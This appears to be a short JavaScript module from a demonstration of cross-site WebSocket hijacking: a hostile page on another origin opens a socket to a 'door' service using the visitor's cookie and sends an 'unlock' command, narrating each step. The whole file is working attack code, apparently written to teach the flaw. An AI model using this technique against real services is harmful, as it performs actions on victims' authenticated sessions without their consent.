// What a hostile page does in a visitor's browser. This page has another origin than the door: another port is enough.

/** Opens the door's socket from here, with whatever cookie the browser has for it. Answers whether the door was unlocked. */
export function hijack(url, say) {
  say(`> new WebSocket("${url}") from ${location.origin}, as any page may`);
  const socket = new WebSocket(url);
  return new Promise((done) => {
    socket.addEventListener("open", () => {
      say("< connected, with your cookie. > unlock");
      socket.send("unlock");
    });
    socket.addEventListener("message", ({ data }) => {
      say(`< ${data}`);
      socket.close();
      done(data.includes("OPEN"));
    });
    socket.addEventListener("close", () => {
      say("< no connection. Refused, or nobody is signed in: open the door's page once, and try again.");
      done(false);
    });
  });
}
